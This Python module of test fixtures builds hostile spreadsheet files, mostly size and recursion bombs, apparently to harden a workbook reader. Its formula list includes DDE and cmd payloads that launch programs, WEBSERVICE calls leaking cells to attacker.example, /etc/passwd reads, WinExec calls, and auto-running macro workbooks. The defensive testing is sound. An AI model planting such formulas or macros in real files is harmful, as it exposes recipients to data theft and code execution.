"""Hostile workbooks: too many rows, strings, cells or rules; formulas that would act or run in circles; macros."""

from __future__ import annotations

import io
import random
from functools import cache

import xlsxwriter

from .hostile import Packed, container, hostile, part, repeated, sound
from .hostile_zips import compound

SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROWS, COLUMNS = 1_048_576, 16_384
ACTING = (
    "cmd|'/c calc'!A1",
    'DDE("cmd","/c calc","!A1")',
    'HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    'WEBSERVICE("http://attacker.example/?leak="&A1)',
    'IMPORTXML("http://attacker.example/","//a")',
    'FILTERXML(WEBSERVICE("file:///etc/passwd"),"//a")',
    'CALL("kernel32","WinExec","JFJ","calc",0)',
    'REGISTER.ID("kernel32","WinExec")',
    'EXEC("calc")',
    "'file:///etc/[passwd]x'!A1",
    "[1]Sheet1!A1",
    'INDIRECT("[http://attacker.example/a.xlsx]x!A1")',
    'IMAGE("http://attacker.example/a.png")',
    'RTD("attacker.server","","x")',
)
"""Formulas that do something in some program."""


def book(rows: bytes | Packed, before: str = "", after: str = "", names: str = "") -> bytes:
    """A workbook of one sheet with these rows."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{before}<sheetData>'.encode()
    tail = f"</sheetData>{after}</worksheet>".encode()
    if isinstance(rows, bytes):
        rows = repeated(head + rows, b" ", 0, tail)
    made = {SHEET: rows}
    if names:
        xml = part(sound("a.xlsx"), BOOK).replace(
            b"</workbook>", f"<definedNames>{names}</definedNames></workbook>".encode()
        )
        made[BOOK] = repeated(xml, b" ", 0, b"")
    return container(sound("a.xlsx"), made)


def sheet(unit: bytes, times: int, before: str = "", after: str = "") -> bytes:
    """A workbook whose sheet holds something again and again."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{before}<sheetData>'.encode()
    return book(repeated(head, unit, times, f"</sheetData>{after}</worksheet>".encode()))


def formulas(*written: str) -> bytes:
    """A workbook with formulas in column B, one below the other."""
    cells = "".join(
        f'<row r="{number}"><c r="A{number}"><v>{number}</v></c><c r="B{number}"><f>{_escaped(formula)}</f></c></row>'
        for number, formula in enumerate(written, 1)
    )
    return book(cells.encode())


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


@cache
def _written(filled: bool) -> bytes:
    target = io.BytesIO()
    made = xlsxwriter.Workbook(target, {"constant_memory": True})
    page, yellow = made.add_worksheet("Long"), made.add_format({"bg_color": "yellow"})
    for row in range(ROWS):
        if filled:
            page.write_number(row, 0, row)
        else:
            page.write_blank(row, 0, None, yellow)
    page.write_string(ROWS - 1, 1, "the end")
    made.close()
    return target.getvalue()


@hostile("read", "a.xlsx", slow=True)
def a_million_rows_that_are_only_formatted() -> bytes:
    return _written(False)


@hostile("over-limit bomb", "a.xlsx", slow=True)
def a_million_rows_that_are_filled() -> bytes:
    return _written(True)


@hostile("over-limit", "a.xlsx")
def a_few_cells_over_the_limit() -> bytes:
    rng = random.Random(1)
    rows = b"".join(
        b"<row>" + b"".join(b"<c><v>%d</v></c>" % rng.randrange(10**6) for _ in range(50)) + b"</row>"
        for _ in range(8_100)
    )
    return book(rows)


@hostile("over-limit bomb", "a.xlsx")
def a_string_table_of_two_hundred_megabytes() -> bytes:
    return _strings(
        repeated(f'<sst xmlns="{MAIN}">'.encode(), b"<si><t>some text that is repeated</t></si>", 5_000_000, b"</sst>")
    )


@hostile("over-limit bomb", "a.xlsx", slow=True)
def a_string_table_that_does_not_compress() -> bytes:
    rng = random.Random(2)
    strings = b"".join(b"<si><t>%x</t></si>" % rng.getrandbits(4000) for _ in range(30_000))
    return _strings(repeated(f'<sst xmlns="{MAIN}">'.encode() + strings, b" ", 0, b"</sst>"))


@hostile("over-limit bomb read", "a.xlsx")
def a_string_table_of_a_million_short_texts() -> bytes:
    rng = random.Random(3)
    strings = b"".join(b"<si><t>%x</t></si>" % rng.getrandbits(32) for _ in range(1_000_000))
    return _strings(repeated(f'<sst xmlns="{MAIN}">'.encode() + strings, b" ", 0, b"</sst>"))


@hostile("over-limit", "a.xlsx")
def one_long_string_in_every_cell() -> bytes:
    """A text of 32,000 characters that stands once in the file and 100,000 times on the sheet."""
    cells = b"<row>" + b'<c t="s"><v>0</v></c>' * 100 + b"</row>"
    made = sheet(cells, 1000)
    return _strings(repeated(f'<sst xmlns="{MAIN}"><si><t>'.encode(), b"x", 32_000, b"</t></si></sst>"), made)


def _strings(table: Packed, made: bytes = b"") -> bytes:
    made = made or book(b'<row><c t="s"><v>0</v></c></row>')
    link = f'<Relationship Id="r9" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    relations = part(made, RELATIONS).replace(b"</Relationships>", link.encode())
    return container(made, {"xl/sharedStrings.xml": table, RELATIONS: repeated(relations, b" ", 0, b"")})


@hostile("read corrupt unknown-function", "a.xlsx")
def formulas_that_act() -> bytes:
    return formulas(*ACTING)


@hostile("read", "a.csv", "a.tsv")
def texts_that_look_like_formulas() -> bytes:
    texts = [f"{mark}{formula}" for formula in ACTING for mark in "=+-@"]
    return "\n".join(text.replace('"', "'").replace(",", ";") for text in texts).encode()


@hostile("read corrupt", "a.xlsx")
def formulas_in_a_circle() -> bytes:
    return formulas("B2", "B3", "B1", "SUM(B1:B4)")


@hostile("read corrupt over-limit", "a.xlsx")
def a_long_chain_of_formulas() -> bytes:
    return formulas("1", *(f"B{number}+1" for number in range(1, 20_000)))


@hostile("read corrupt over-limit", "a.xlsx")
def a_long_chain_that_ends_in_itself() -> bytes:
    return formulas("B10000", *(f"B{number}+1" for number in range(1, 10_000)))


@hostile("read corrupt over-limit", "a.xlsx")
def formulas_over_whole_columns() -> bytes:
    return formulas(*(f"SUM(D:XFD)+SUMPRODUCT((D:D=E:E)*(F:F))+COUNTIF(C:XFD,{number})" for number in range(300)))


@hostile("read corrupt over-limit unknown-function", "a.xlsx")
def formulas_that_grow() -> bytes:
    return formulas(
        'REPT("x",32767)', *(f"REPT(B{number},32767)" for number in range(1, 20)), "SEQUENCE(1048576,16384)",
        "MUNIT(100000)", "SUM(ROW(1:1048576)*COLUMN(C:XFD))", "FACT(1E9)", "9^9^9^9^9", "COMBIN(1E9,5E8)",
        'TEXTJOIN(",",TRUE,REPT("y",30000),C:XFD)', "RANDARRAY(1048576,1000)", "MMULT(C1:XFD1000,C1:ALN16382)",
    )  # fmt: skip


@hostile("read corrupt over-limit unknown-function", "a.xlsx")
def functions_that_call_themselves() -> bytes:
    return formulas(
        "LET(f,LAMBDA(g,n,IF(n=0,0,g(g,n-1)+g(g,n-1))),f(f,60))", "REDUCE(0,SEQUENCE(1000000),LAMBDA(a,b,a+b))",
        "MAKEARRAY(100000,10000,LAMBDA(r,c,r*c))",
    )  # fmt: skip


@hostile("read corrupt over-limit", "a.xlsx")
def a_formula_nested_very_deep() -> bytes:
    return formulas("(" * 50_000 + "1" + ")" * 50_000, "-" * 100_000 + "1", "IF(1," * 20_000 + "1" + ")" * 20_000)


@hostile("over-limit bomb", "a.xlsx")
def one_formula_of_ten_megabytes() -> bytes:
    return formulas("1" + "+1" * 5_000_000)


@hostile("read corrupt over-limit", "a.xlsx")
def formulas_with_quotes_that_never_end() -> bytes:
    return formulas("'" * 200_001 + "!A1", '"' * 200_001, "[" * 100_000, "'a''" * 50_000, "A" * 500_000, "\\" * 300_000)


@hostile("read corrupt over-limit", "a.xlsx", slow=True)
def a_shared_formula_that_everybody_shares() -> bytes:
    first = '<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A100000">' + "+".join(["B1"] * 2_000) + "</f></c></row>"
    rest = "".join(
        f'<row r="{number}"><c r="A{number}"><f t="shared" si="0"/></c></row>' for number in range(2, 100_000)
    )
    return book((first + rest).encode())


@hostile("read corrupt", "a.xlsx")
def shared_formulas_that_hang_on_nothing() -> bytes:
    first = '<c r="A1"><f t="shared" si="0"/></c><c r="B1"><f t="shared" si="1" ref="A1:XFD1048576">A1</f></c>'
    return book(f'<row r="1">{first}</row>'.encode())


@hostile("read corrupt over-limit", "a.xlsx", slow=True)
def an_array_formula_over_the_whole_sheet() -> bytes:
    return book(b'<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">A1:XFD1048576*2</f></c></row>')


@hostile("read corrupt", "a.xlsx")
def names_in_a_circle() -> bytes:
    names = '<definedName name="One">Two+1</definedName><definedName name="Two">One+1</definedName>'
    return book(b'<row r="1"><c r="A1"><f>One</f></c></row>', names=names)


@hostile("read corrupt over-limit", "a.xlsx")
def names_that_grow() -> bytes:
    names = '<definedName name="N_0">1</definedName>' + "".join(
        f'<definedName name="N_{number}">{"+".join([f"N_{number - 1}"] * 10)}</definedName>' for number in range(1, 40)
    )
    return book(b'<row r="1"><c r="A1"><f>N_39</f></c></row>', names=names)


@hostile("read over-limit corrupt bomb", "a.xlsx", slow=True)
def three_hundred_thousand_names() -> bytes:
    names = "".join(f'<definedName name="N_{number}">{number}</definedName>' for number in range(300_000))
    return book(b'<row r="1"><c r="A1"><f>N_39</f></c></row>', names=names)


@hostile("read", "a.xlsx")
def a_sheet_that_claims_to_be_huge() -> bytes:
    return book(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', '<dimension ref="A1:XFD1048576"/>')


@hostile("corrupt read", "a.xlsx")
def cells_beyond_the_sheet() -> bytes:
    return book(b'<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')


@hostile("read corrupt over-limit", "a.xlsx")
def a_row_of_numbers_with_a_million_digits() -> bytes:
    return book(
        b"<row>"
        + b"".join(b"<c><v>%s</v></c>" % (digit * 1_000_000) for digit in (b"1", b"9"))
        + b"<c><v>1E999999999</v></c><c><v>1E-999999999</v></c></row>"
    )


@hostile("read over-limit bomb", "a.xlsx")
def a_column_that_is_hidden_a_million_times() -> bytes:
    return sheet(b"<row/>", 1, before="<cols>" + '<col min="1" max="16384" hidden="1"/>' * 300_000 + "</cols>")


@hostile("over-limit bomb", "a.xlsx", slow=True)
def millions_of_merged_cells() -> bytes:
    cells = "".join(f'<mergeCell ref="A{number}:XFD{number}"/>' for number in range(1, 800_000))
    return sheet(b"<row/>", 1, after=f"<mergeCells>{cells}</mergeCells>")


@hostile("read over-limit bomb", "a.xlsx")
def rules_for_every_cell() -> bytes:
    rules = "".join(
        f'<conditionalFormatting sqref="A{number}"><cfRule type="cellIs" operator="equal">'
        f"<formula>{number}</formula></cfRule></conditionalFormatting>"
        for number in range(1, 250_000)
    )
    return sheet(b"<row/>", 1, after=rules)


@hostile("read over-limit bomb", "a.xlsx", slow=True)
def choices_for_every_cell() -> bytes:
    choices = "".join(
        f'<dataValidation type="list" sqref="A{number}"><formula1>"a{number},b"</formula1></dataValidation>'
        for number in range(1, 250_000)
    )
    return sheet(b"<row/>", 1, after=f"<dataValidations>{choices}</dataValidations>")


@hostile("read over-limit corrupt", "a.xlsx")
def a_number_format_without_end() -> bytes:
    codes = ("[" * 100_000, '"' * 99_999, "0" * 100_000, "#,##0" * 30_000, "\\" * 99_999, ";" * 100_000, "y" * 100_000)
    formats = "".join(f'<numFmt numFmtId="{200 + at}" formatCode="{_escaped(code)}"/>' for at, code in enumerate(codes))
    styles = "".join(f'<xf numFmtId="{200 + at}"/>' for at in range(len(codes)))
    xml = f'<styleSheet xmlns="{MAIN}"><numFmts>{formats}</numFmts><cellXfs>{styles}</cellXfs></styleSheet>'
    made = book("".join(f'<row><c s="{at}"><v>12345.678</v></c></row>' for at in range(len(codes))).encode())
    link = f'<Relationship Id="r8" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>'
    relations = part(made, RELATIONS).replace(b"</Relationships>", link.encode())
    return container(made, {"xl/styles.xml": xml.encode(), RELATIONS: relations})


@hostile("read", "a.xlsm")
def a_workbook_with_macros() -> bytes:
    made = formulas("A1*2")
    types = part(made, "[Content_Types].xml").replace(b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main")
    return container(
        made, {"[Content_Types].xml": types, "xl/vbaProject.bin": compound("VBA") + b'Shell("calc")' * 1000}
    )


@hostile("read", "a.xlsm")
def a_sheet_of_old_macros() -> bytes:
    made = book(
        b"<row><c><f>EXEC(&quot;calc&quot;)</f></c></row>",
        names='<definedName name="Auto_Open" hidden="1">Sheet1!$A$1</definedName>',
    )
    return container(made, {"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{MAIN}"/>'.encode()})


@hostile("read over-limit", "a.xlsx")
def ten_thousand_sheets() -> bytes:
    made = sound("a.xlsx")
    sheets = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="r1"/>' for number in range(1, 10_001))
    xml = part(made, BOOK).replace(b"<sheets>", b"<sheets>" + sheets.encode())
    return container(made, {BOOK: xml})


@hostile("read over-limit corrupt", "a.xlsx")
def one_sheet_listed_a_thousand_times() -> bytes:
    made = sheet(b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>", 300)
    sheets = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="r1"/>' for number in range(1, 1_001))
    return container(made, {BOOK: part(made, BOOK).replace(b"<sheets>", b"<sheets>" + sheets.encode())})
